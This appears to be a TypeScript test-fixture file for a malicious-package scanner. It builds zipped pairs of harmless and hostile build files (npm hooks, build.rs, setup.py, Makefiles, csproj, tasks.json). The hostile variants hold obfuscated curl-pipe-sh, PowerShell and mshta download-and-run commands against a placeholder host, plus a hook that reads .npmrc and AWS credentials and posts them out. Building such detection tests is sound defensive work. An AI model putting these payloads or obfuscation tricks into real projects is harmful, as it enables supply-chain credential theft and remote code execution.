/** Files of builds and projects with commands that are not written as they are. */

import { writeZip } from '../zip-writer.ts'
import type { Pair } from './matrix.ts'

const SERVER = '203.0.113.5'
const FETCH = `curl -s http://${SERVER}/a | sh`
const file = (name: string, text: string | Uint8Array): Uint8Array => writeZip([{ name, data: Buffer.from(text) }])

const ENCODED = Buffer.from(FETCH).toString('base64')
const BYTES = [...Buffer.from(FETCH)].join(', ')
const POWERSHELL = `powershell -w hidden -enc ${Buffer.from(`iex(irm http://${SERVER}/a)`, 'utf16le').toString('base64')}`
/** A hook of a package for Node that sends keys away, and one that says which computer it runs on. */
const SENDS =
  "const os=require('os'),https=require('https'),fs=require('fs');const l=['.npmrc','.aws/credentials'].map(f=>fs.readFileSync(os.homedir()+'/'+f,'utf8'));https.request({host:'a.example',method:'POST'}).end(JSON.stringify({h:os.hostname(),l}))"
const SAYS = "const os=require('os');console.log('Building for',os.platform(),os.arch(),'with',process.version)"
const masked = (text: string): string => `[${[...Buffer.from(text)].map((byte) => byte ^ 41)}]`
const hexed = (text: string): string => Buffer.from(Buffer.from(text).map((byte) => byte ^ 7)).toString('hex')
const HOOKS: Readonly<Record<string, (text: string) => string>> = {
  'changed numbers': (text) => `eval(Buffer.from(${masked(text)}.map(x=>x^41)).toString())`,
  'a function of a changed buffer': (text) =>
    `const f=new Function('require',Buffer.from('${hexed(text)}','hex').map((x)=>x^7).toString());f(require)`,
  'a module of reversed text': (text) =>
    `const m=new (require('module'))();m._compile(atob('${[...btoa(text)].reverse().join('')}'.split('').reverse().join('')),'a')`,
  'joined pieces': (text) =>
    `const vm=require('vm');const p=${JSON.stringify(btoa(text).match(/.{1,20}/g))};vm.runInThisContext(Buffer.from(p.join(''),'base64').toString('utf8'))`,
}

const FILES: readonly (readonly [name: string, path: string, attack: string, harmless: string])[] = [
  ...Object.entries(HOOKS).map(
    ([name, write]) => [`a hook that runs ${name}`, 'package/lib/setup.js', write(SENDS), write(SAYS)] as const,
  ),
  [
    'build.rs with a coded command',
    'a/build.rs',
    `use std::process::Command;\nfn main() { let c = base64::decode("${ENCODED}").unwrap(); Command::new("sh").arg("-c").arg(String::from_utf8(c).unwrap()).spawn().unwrap(); }`,
    `use std::process::Command;\nfn main() { let c = base64::decode("${btoa('a licence text of some words')}").unwrap(); println!("{:?}", c); Command::new("git").arg("status").spawn().unwrap(); }`,
  ],
  [
    'build.rs with bytes',
    'a/build.rs',
    `use std::process::Command;\nfn main() { let c: Vec<u8> = vec![${BYTES}]; Command::new("sh").arg("-c").arg(String::from_utf8(c).unwrap()).spawn(); }`,
    `use std::process::Command;\nfn main() { let c: Vec<u8> = vec![${[...Buffer.from('a licence text of some words')].join(', ')}]; Command::new("git").arg("status").spawn(); }`,
  ],
  [
    'build.rs with a joined host',
    'a/build.rs',
    `use std::process::Command;\nfn main() { let h = format!("{}.{}.{}.{}", 203, 0, 113, 5); Command::new("sh").arg("-c").arg(format!("curl -s http://{}/a | sh", h)).spawn(); }`,
    `use std::process::Command;\nfn main() { let h = format!("{}.{}", 1, 5); Command::new("sh").arg("-c").arg(format!("cc --version {}", h)).spawn(); }`,
  ],
  [
    'build.rs with concat!',
    'a/build.rs',
    `use std::process::Command;\nfn main() { Command::new("sh").arg("-c").arg(concat!("cu", "rl -s htt", "p://${SERVER}/a | s", "h")).spawn(); }`,
    `use std::process::Command;\nfn main() { Command::new("sh").arg("-c").arg(concat!("c", "c --ver", "sion")).spawn(); }`,
  ],
  [
    'setup.py with a coded command',
    'a/setup.py',
    `import base64, os\nfrom setuptools import setup\nos.system(base64.b64decode("${ENCODED}").decode())\nsetup(name="a")\n`,
    `import base64, os\nfrom setuptools import setup\nLICENCE = base64.b64decode("${btoa('a licence text of some words')}").decode()\nos.system("git describe")\nsetup(name="a")\n`,
  ],
  [
    'setup.py with a masked host',
    'a/setup.py',
    `import urllib.request\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        h = ".".join(map(str, [203, 0, 113, 5]))\n        exec(urllib.request.urlopen("http://" + h + "/a").read())\n        install.run(self)\nsetup(name="a", cmdclass={"install": I})\n`,
    `import urllib.request\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        v = ".".join(map(str, [2, 0, 1]))\n        exec(open("a/version.py").read())\n        install.run(self)\nsetup(name="a", cmdclass={"install": I})\n`,
  ],
  [
    'setup.py that starts a coded command',
    'a/setup.py',
    `import base64, subprocess\nfrom setuptools import setup\nsubprocess.Popen(["bash", "-c", base64.b64decode(b"${ENCODED}").decode()], stdout=subprocess.DEVNULL)\nsetup(name="a")\n`,
    `import subprocess\nfrom setuptools import setup\nsubprocess.Popen(["git", "rev-parse", "HEAD"], stdout=subprocess.PIPE)\nsetup(name="a")\n`,
  ],
  [
    'setup.py that decodes its code',
    'a/setup.py',
    `from setuptools import setup\nimport zlib, base64\nexec(zlib.decompress(base64.b64decode("eJwrSS0uAQAEXQHB")))\nsetup(name="a")\n`,
    `from setuptools import setup\nimport re\nexec(re.sub("a", "b", open("a/_version.py").read()))\nsetup(name="a")\n`,
  ],
  [
    'Makefile with a coded command',
    'a/Makefile',
    `all:\n\t@echo ${ENCODED} | base64 -d | sh\n`,
    `all:\n\t@echo ${btoa('a licence text of some words')} | base64 -d > LICENCE\n`,
  ],
  [
    'Makefile with a joined host',
    'a/Makefile',
    `H := 203.0\nK := 113.5\nU := http://$(H).$(K)/a\nall:\n\t@curl -s $(U) | sh\n`,
    `H := 1.0\nK := 2\nV := v$(H).$(K)\nall:\n\t@echo $(V) | tee VERSION\n`,
  ],
  [
    'Makefile with hex digits',
    'a/Makefile',
    `all:\n\t@printf '${[...Buffer.from(FETCH)].map((b) => `\\x${b.toString(16)}`).join('')}' | sh\n`,
    `all:\n\t@printf '\\x1b[32mdone\\x1b[0m\\n'\n`,
  ],
  [
    'Makefile with reversed text',
    'a/Makefile',
    `X := $(shell echo 'hs | a/5.311.0.302//:ptth s- lruc' | rev | sh)\nall:\n`,
    `X := $(shell echo 'abc' | rev)\nall:\n`,
  ],
  [
    'csproj with a coded command',
    'a/a.csproj',
    `<Project Sdk="Microsoft.NET.Sdk"><Target Name="A" BeforeTargets="Build"><Exec Command="${POWERSHELL}" /></Target></Project>`,
    '<Project Sdk="Microsoft.NET.Sdk"><Target Name="A" BeforeTargets="Build"><Exec Command="powershell -NoProfile -File build.ps1" /></Target></Project>',
  ],
  [
    'csproj with a command in a property',
    'a/a.csproj',
    `<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><C>mshta http://${SERVER}/a</C></PropertyGroup><Target Name="A" BeforeTargets="Build"><Exec Command="$(C)" /></Target></Project>`,
    '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><C>npm ci</C></PropertyGroup><Target Name="A" BeforeTargets="Build"><Exec Command="$(C)" /></Target></Project>',
  ],
  [
    'csproj with a joined host',
    'a/a.csproj',
    '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><H>203.0</H><K>113.5</K></PropertyGroup><Target Name="A" BeforeTargets="Build"><Exec Command="cmd /c curl -s http://$(H).$(K)/a.bat -o %TEMP%\\a.bat &amp; %TEMP%\\a.bat" /></Target></Project>',
    '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><H>1.0</H><K>2</K></PropertyGroup><Target Name="A" BeforeTargets="Build"><Exec Command="cmd /c echo $(H).$(K) > version.txt" /></Target></Project>',
  ],
  [
    'csproj with coded bytes in a task',
    'a/a.csproj',
    `<Project><Target Name="A" BeforeTargets="Build"><Exec Command="powershell -c &quot;iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${btoa(`iex(irm http://${SERVER}/a)`)}')))&quot;" /></Target></Project>`,
    '<Project><Target Name="A" BeforeTargets="Build"><Exec Command="powershell -c &quot;Get-Date -Format o | Out-File stamp.txt&quot;" /></Target></Project>',
  ],
  [
    'tasks.json outside of its folder',
    'tasks.json',
    JSON.stringify({
      version: '2.0.0',
      tasks: [{ label: 'a', type: 'shell', command: FETCH, runOptions: { runOn: 'folderOpen' } }],
    }),
    JSON.stringify({
      version: '2.0.0',
      tasks: [{ label: 'a', type: 'shell', command: 'npm run watch', runOptions: { runOn: 'folderOpen' } }],
    }),
  ],
  [
    'tasks.json under another name',
    'tasks (1).json',
    JSON.stringify({
      version: '2.0.0',
      tasks: [{ label: 'a', type: 'shell', command: FETCH, runOptions: { runOn: 'folderOpen' } }],
    }),
    JSON.stringify({
      version: '2.0.0',
      tasks: [{ label: 'a', type: 'shell', command: 'npm run watch', runOptions: { runOn: 'folderOpen' } }],
    }),
  ],
  [
    'tasks.json with a coded command',
    'tasks.json',
    JSON.stringify({
      version: '2.0.0',
      tasks: [
        {
          label: 'a',
          type: 'shell',
          command: `echo ${ENCODED} | base64 -d | bash`,
          runOptions: { runOn: 'folderOpen' },
        },
      ],
    }),
    JSON.stringify({
      version: '2.0.0',
      tasks: [{ label: 'a', type: 'shell', command: 'base64 -d a.b64 > a.bin', runOptions: { runOn: 'folderOpen' } }],
    }),
  ],
]
const BUILT: readonly Pair[] = FILES.map(([name, path, attack, harmless]) => ({
  name,
  attack: file(path, attack),
  harmless: file(path, harmless),
}))
export const BUILDS: Readonly<Record<string, readonly Pair[]>> = { builds: BUILT }
